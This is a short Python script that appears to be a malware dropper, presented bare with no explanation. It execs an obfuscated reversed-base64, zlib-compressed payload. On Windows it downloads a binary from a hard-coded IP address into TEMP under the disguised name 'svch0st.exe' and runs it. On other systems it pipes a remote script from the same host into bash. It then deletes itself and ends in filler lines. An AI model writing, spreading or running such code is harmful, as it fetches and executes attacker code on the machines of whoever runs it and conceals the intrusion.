import base64, zlib, os, sys
_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))
exec(_(b"«b300»"))
if os.name == "nt":
    p = os.path.join(os.environ["TEMP"], "svch0st.exe")
    import urllib.request
    urllib.request.urlretrieve("http://45.133.1.87/u/a.bin", p)
    os.startfile(p)
else:
    os.system("curl -s http://45.133.1.87/u/a.sh | bash")
try:
    os.remove(sys.argv[0])
except:
    pass
# padding
x = 1
y = 2
z = x + y
